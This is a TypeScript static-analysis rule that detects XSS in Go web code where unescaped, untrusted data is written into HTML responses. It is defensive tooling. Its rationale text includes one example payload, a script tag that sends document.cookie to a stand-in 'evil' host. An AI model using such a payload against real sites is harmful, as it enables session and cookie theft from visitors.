import type { SgNode } from '@ast-grep/napi'
import { defineRule, type RuleContext } from '../../../engine/rule.js'
import { isExternal, isUntrusted } from '../../rust/_utils/origin.js'
import { definitionsOf, literalText, textBefore } from '../../rust/_utils/shared.js'
import { methodCall, packageCall, paramsOfType } from '../_utils/go.js'

export const GO_HTML_SANITIZERS =
  /^(?:html\.EscapeString|template\.HTMLEscapeString|template\.HTMLEscaper|template\.JSEscapeString|template\.JSEscaper|url\.QueryEscape|url\.PathEscape|strconv\.Quote)$|\.(?:Sanitize|SanitizeBytes|SanitizeReader|Render|Execute|ExecuteTemplate)$|^json\.(?:Marshal|MarshalIndent)$|^bluemonday\.|(?:^|\.)(?:[eE]scape\w*|[sS]anitize\w*)$/

const TRUSTED_TYPES = /^(?:HTML|JS|HTMLAttr|URL|CSS|JSStr|Srcset)$/
const NON_HTML_TYPE = /Content-Type["`]\s*,\s*(?:["`](?:application\/(?:json|octet-stream|xml|pdf|zip)|text\/(?:plain|csv|event-stream)|image\/)|[A-Za-z_][\w.]*\s*\))/i
const HTML_TYPE = /Content-Type["`]\s*,\s*["`]text\/html/i

/** Names that hold the response writer: `w http.ResponseWriter` parameters, gin `c.Writer`, echo `c.Response()`. */
function isResponseWriter(arg: SgNode, node: SgNode, ctx: RuleContext): boolean {
  const text = arg.text()
  if (/^\w+\.Writer$|^\w+\.Response\(\)(?:\.Writer)?$/.test(text)) return true
  return paramsOfType(node, ctx, /^(?:http\.)?ResponseWriter$/).includes(text)
}

function dataIsUnsafe(data: SgNode[], node: SgNode, ctx: RuleContext, htmlShaped: boolean): boolean {
  const before = textBefore(node, ctx)
  if (NON_HTML_TYPE.test(before)) return false
  const opts = { sanitizers: GO_HTML_SANITIZERS }
  // serving a file's bytes is static content, not markup built from input
  if (data.every((d) => d.kind() === 'identifier' && definitionsOf(d.text(), d, ctx).some((def) => /^(?:os|ioutil)\.ReadFile\(|^fs\.ReadFile\(|\.ReadFile\(/.test(def.value.text())))) return false
  const html = htmlShaped || HTML_TYPE.test(before)
  return data.some((d) => (html ? isUntrusted(d, ctx, opts) : isExternal(d, ctx, opts)))
}

export default defineRule({
  id: 'go/no-unescaped-html-output',
  languages: ['go'],
  title: 'HTML response built from unescaped data',
  property: 'injection.xss',
  cwe: ['CWE-79'],
  severity: 'high',
  confidence: 'high',
  message: '{{F}} writes non-constant, unescaped data into an HTML response',
  rationale:
    'Text written into an HTML response without escaping is parsed as markup: a value such as `<script>fetch("//evil/?c="+document.cookie)</script>` runs in every visitor\'s browser with the site\'s origin; `template.HTML(x)` tells html/template to skip escaping for exactly such values (CWE-79).',
  safeAlternative:
    'Render with html/template and pass the data as plain strings (it escapes by context), or escape with `html.EscapeString` before writing; set `Content-Type: text/plain` or JSON for non-HTML responses.',
  // template.HTML & co. need the html/template import; fmt.Fprint*, io.WriteString and w.Write /
  // WriteString are named in full; echo's c.HTML and gin's c.Data(…, "text/html", …)
  requires: { words: ['html/template', 'Fprint', 'Write', 'HTML', 'text/html'] },
  match: {
    rule: {
      kind: 'call_expression',
      has: { field: 'function', kind: 'selector_expression', has: { field: 'field', regex: '^(?:HTML|JS|HTMLAttr|URL|CSS|JSStr|Srcset|Fprintf|Fprint|Fprintln|WriteString|Write|Data)$' } },
    },
  },
  check(node, ctx) {
    const args = ctx.flow.callArguments(node)
    const fnText = node.field('function')!.text()
    const pc = packageCall(node, ctx)
    if (pc) {
      const [path, fn] = pc
      // template.HTML(x) and kin: marks x as trusted markup
      if (path === 'html/template' && TRUSTED_TYPES.test(fn) && args[0] && isUntrusted(args[0], ctx, { sanitizers: GO_HTML_SANITIZERS })) return { data: { F: fnText } }
      // fmt.Fprintf(w, format, args...), fmt.Fprint(w, ...), io.WriteString(w, s)
      if (path === 'fmt' && /^Fprint(?:f|ln)?$/.test(fn) && args[0] && isResponseWriter(args[0], node, ctx)) {
        const format = fn === 'Fprintf' ? literalText(args[1] ?? args[0]) : undefined
        const data = fn === 'Fprintf' ? args.slice(2) : args.slice(1)
        const shaped = format !== undefined ? /<[a-zA-Z!/]/.test(format) : data.some((d) => /<[a-zA-Z!/]/.test(d.text()))
        if (fn === 'Fprintf' && format === undefined && args[1] && isUntrusted(args[1], ctx, { sanitizers: GO_HTML_SANITIZERS })) {
          if (dataIsUnsafe([args[1]], node, ctx, /<[a-zA-Z!/]/.test(args[1].text()))) return { data: { F: fnText } }
        }
        return dataIsUnsafe(data, node, ctx, shaped) ? { data: { F: fnText } } : false
      }
      if (path === 'io' && fn === 'WriteString' && args[0] && args[1] && isResponseWriter(args[0], node, ctx)) {
        return dataIsUnsafe([args[1]], node, ctx, /<[a-zA-Z!/]/.test(args[1].text())) ? { data: { F: fnText } } : false
      }
      return false
    }
    const m = methodCall(node, ctx)
    if (!m) return false
    // w.Write([]byte(x)), c.Writer.WriteString(x)
    if (/^(?:Write|WriteString)$/.test(m.method) && args[0] && isResponseWriter(m.recv, node, ctx)) {
      return dataIsUnsafe([args[0]], node, ctx, /<[a-zA-Z!/]/.test(args[0].text())) ? { data: { F: fnText } } : false
    }
    // echo: c.HTML(code, html) writes raw markup; gin: c.Data(code, "text/html", b)
    if (m.method === 'HTML' && args.length === 2 && /^(?:c|ctx|e)$/.test(m.recv.text()) && isUntrusted(args[1]!, ctx, { sanitizers: GO_HTML_SANITIZERS })) return { data: { F: fnText } }
    if (m.method === 'Data' && args.length === 3 && /text\/html/.test(args[1]!.text()) && isUntrusted(args[2]!, ctx, { sanitizers: GO_HTML_SANITIZERS })) return { data: { F: fnText } }
    return false
  },
})
